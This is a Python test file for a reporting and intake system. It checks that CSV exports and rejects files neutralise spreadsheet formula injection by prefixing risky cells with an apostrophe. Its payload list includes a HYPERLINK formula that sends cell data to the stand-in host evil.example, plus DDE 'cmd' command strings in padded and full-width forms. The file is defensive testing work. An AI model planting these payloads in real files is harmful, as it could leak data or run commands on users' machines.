"""CSV files officials open in a spreadsheet (intake rejects, report exports) cannot run a
formula: every text cell that a spreadsheet would read as one starts with an apostrophe."""

from __future__ import annotations

import csv
import io

import pytest

from samvad.intake.rejects import RejectsFile
from samvad.intake.validate import Rejection
from samvad.phones import NOT_DIGITS, normalise_indian_mobile
from samvad.reports.exports import safe_cell, to_csv

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'"),
    ("=1+2", "'"),
    (" =1+2", "'"),
    ("\n=2", "'"),
    ("\t=2", "'"),
    ("\r=2", "'"),
    ("  \u3000@SUM(A1)", "'"),
    ('＝HYPERLINK("http://evil.example")', "'"),  # full-width equals sign
    ("＋cmd|' /C calc'!A0", "'"),  # full-width plus
    ("-2+3+cmd|' /C calc'!A0", "'"),
    ("@evil", "'"),
    ("+91 98765 43210", "'"),  # + and - start formulas too (OWASP): no exception for numbers
]
HARMLESS = ["Capital Hospital", "ଭୁବନେଶ୍ୱର", "", "(+91) 98765-43210", "9876543210"]


def _rejects_csv(cells: list[str], raw: str | None = None) -> list[list[str]]:
    rejects = RejectsFile(["office_name", "phone"])
    rejects.add(Rejection(7, NOT_DIGITS, cells, raw))
    text = rejects.finish().read().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(("value", "prefix"), HOSTILE)
def test_the_intake_rejects_file_neutralises_formulas_in_every_cell(value, prefix):
    """Given a rejected row whose cells (and raw line) hold a formula, When the rejects file
    is written, Then each such cell is written with a leading apostrophe, the text kept."""
    [_, row] = _rejects_csv([value, value], raw=value)
    assert row[3:] == [prefix + value] * 3


@pytest.mark.parametrize(("value", "prefix"), HOSTILE)
def test_report_exports_neutralise_padded_and_full_width_formulas(value, prefix):
    """Given a report cell with a formula behind whitespace, a newline, or written in
    full-width characters, When exported, Then it reads back with a leading apostrophe."""
    assert safe_cell(value) == prefix + value
    body = to_csv([{"office_name": value}], ["office_name"]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(body)))[1] == [prefix + value]


@pytest.mark.parametrize("value", HARMLESS)
def test_plain_text_is_written_as_it_is(value):
    """Given text that no spreadsheet reads as a formula, When written by either file, Then
    it is unchanged."""
    assert safe_cell(value) == value
    [_, row] = _rejects_csv([value, value])
    assert row[3:5] == [value, value]


def test_a_rejected_phone_written_with_an_apostrophe_is_read_back_on_re_upload():
    """Given a rejects file row whose phone was written as ``'+91 …``, When the corrected
    file is uploaded again, Then the phone reads as the number (the apostrophe is the guard's,
    not the citizen's)."""
    [_, row] = _rejects_csv(["Office", "+91 98765 43210"])
    assert row[4] == "'+91 98765 43210"
    assert normalise_indian_mobile(row[4]) == "+919876543210"
